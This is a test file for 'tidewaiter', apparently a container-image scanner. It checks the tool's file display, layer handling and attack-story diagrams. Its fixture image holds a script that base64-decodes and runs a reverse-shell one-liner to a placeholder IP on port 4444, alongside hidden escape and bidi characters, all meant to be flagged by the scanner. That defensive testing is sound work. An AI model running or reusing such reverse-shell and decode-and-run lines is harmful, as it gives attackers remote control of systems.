import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { writeLayout } from '../testing/archives.ts';
import { buildImage } from '../testing/image-builder.ts';
import { tidewaiter } from '../testing/interop/cli.ts';

let folder = '';
let image = '';
const inner = 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1';
const encoded = Buffer.from(inner).toString('base64');

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'tidewaiter-show-'));
  const built = buildImage({
    entrypoint: ['/bin/sh', '/run.sh'],
    layers: [
      {
        '/run.sh': {
          content: `#!/bin/sh\necho "start\u001b[31m\u202ered"\necho ${encoded} | base64 -d | bash\nsleep 1000\n`,
          mode: 0o755,
        },
        '/gone.sh': '#!/bin/sh\necho first\n',
        '/etc/app/a.conf': 'a=1\n',
        '/data.bin': new Uint8Array([0, 1, 2, 0x41, 0x42, 255]),
        '/link': { link: 'run.sh' },
        '/long.txt': Array.from({ length: 400 }, (_, line) => `line ${line + 1}`).join('\n'),
      },
      { '/gone.sh': null },
    ],
  });
  await writeLayout(folder, [{ image: built, ref: 'latest' }]);
  image = `oci:${folder}:latest`;
});
afterAll(() => rm(folder, { recursive: true, force: true }));

describe('tidewaiter show', () => {
  test('prints a file with its findings, control characters visible, and what it decodes to', async () => {
    const { status, stdout, stderr } = await tidewaiter(['show', image, '/run.sh']);
    expect(status).toBe(0);
    expect(stdout).toContain('mode 0755');
    expect(stdout).toMatch(/2 │ echo "start\\x1b\[31m\\u202ered"/);
    expect(stdout).toMatch(/3 │ echo .* \| base64 -d \| bash\n.*▲ malicious: /);
    expect(stdout).toMatch(
      /shell code, decoded by base64:\n.*decode-and-run.*\n1 │ bash -i >& \/dev\/tcp\/192\.0\.2\.7\/4444 0>&1\n.*▲ malicious: .*reverse-shell/,
    );
    expect(stdout).not.toContain('\u001b');
    expect(stdout).not.toContain('\u202e');
    expect(stderr).toMatch(/layer \d\/2 inspected/);
  });
  test.each<[string, string[], RegExp]>([
    ['a file that a later layer deleted', ['/gone.sh'], /layer 1; deleted by layer 2[\s\S]*echo first/],
    ['the same by its layer', ['--layer', '1', '/gone.sh'], /echo first/],
    ['the target of a link', ['/link'], /run\.sh\n[\s\S]*base64/],
    ['a path that is not clean', ['etc//app/../app/a.conf'], /1 │ a=1/],
    ['a folder', ['/etc/app'], /0644 +4 B {2}layer {2}1 {2}\/etc\/app\/a\.conf/],
    ['the top', ['/'], /\/run\.sh/],
    ['binary content', ['/data.bin'], /00000000 {2}00 01 02 41 42 ff +\.\.\.AB\./],
    ['a long file in part', ['/long.txt'], /200 │ line 200\n.*200 more lines/],
    ['a long file whole', ['--all', '/long.txt'], /400 │ line 400\n$/],
  ])('shows %s', async (_title, args, expected) => {
    const { status, stdout } = await tidewaiter(['show', '--quiet', image, ...args]);
    expect({ status, stdout }).toEqual({ status: 0, stdout: expect.stringMatching(expected) });
  });
  test('--raw gives the bytes as they are', async () => {
    const { stdout } = await tidewaiter(['show', '--quiet', '--raw', image, '/etc/app/a.conf']);
    expect(stdout).toBe('a=1\n');
  });
  test.each<[string, string[], RegExp]>([
    ['a path that is not there', ['/nowhere'], /there is no \/nowhere in the image\n.*lists what is at the top/],
    ['a name that stands elsewhere', ['/a.conf'], /Did you mean \/etc\/app\/a\.conf\?/],
    ['a layer that does not have it', ['--layer', '2', '/run.sh'], /no \/run\.sh in layer 2\n.*It is in layer 1/],
    ['a layer that is no number', ['--layer', 'x', '/run.sh'], /number from 1/],
    ['no path', [], /missing required argument 'path'/],
  ])('says what to do about %s', async (_title, args, said) => {
    const { status, stderr, stdout } = await tidewaiter(['show', '--quiet', image, ...args]);
    expect({ status, stderr, stdout }).toEqual({ status: 2, stderr: expect.stringMatching(said), stdout: '' });
  });
});

describe('tidewaiter story', () => {
  test.each<[string, RegExp]>([
    ['text', /If you run it:\n {2}ENTRYPOINT \/bin\/sh \/run\.sh[\s\S]*reverse shell/],
    ['mermaid', /^flowchart TD\n {2}image\(\["oci:[\s\S]*:::malicious[\s\S]*-->\|"runs"\| s0/],
    ['dot', /^digraph story \{[\s\S]*shape=box3d[\s\S]*reverse shell[\s\S]*\}\n$/],
    ['json', /^\{\n {2}"starts": \[/],
  ])('draws it as %s', async (format, expected) => {
    const { status, stdout } = await tidewaiter(['story', '--quiet', '--format', format, image]);
    expect({ status, stdout }).toEqual({ status: 0, stdout: expect.stringMatching(expected) });
  });
  test('writes to a file', async () => {
    const out = join(folder, 'story.mmd');
    const { status, stdout } = await tidewaiter(['story', '--quiet', '--format', 'mermaid', '--output', out, image]);
    expect({ status, stdout }).toEqual({ status: 0, stdout: '' });
    expect(await readFile(out, 'utf8')).toMatch(/^flowchart/);
  });
  test('refuses a form it does not know', async () => {
    const { status, stderr } = await tidewaiter(['story', '--format', 'png', image]);
    expect({ status, stderr }).toEqual({ status: 2, stderr: expect.stringMatching(/text, mermaid, dot, json/) });
  });
});
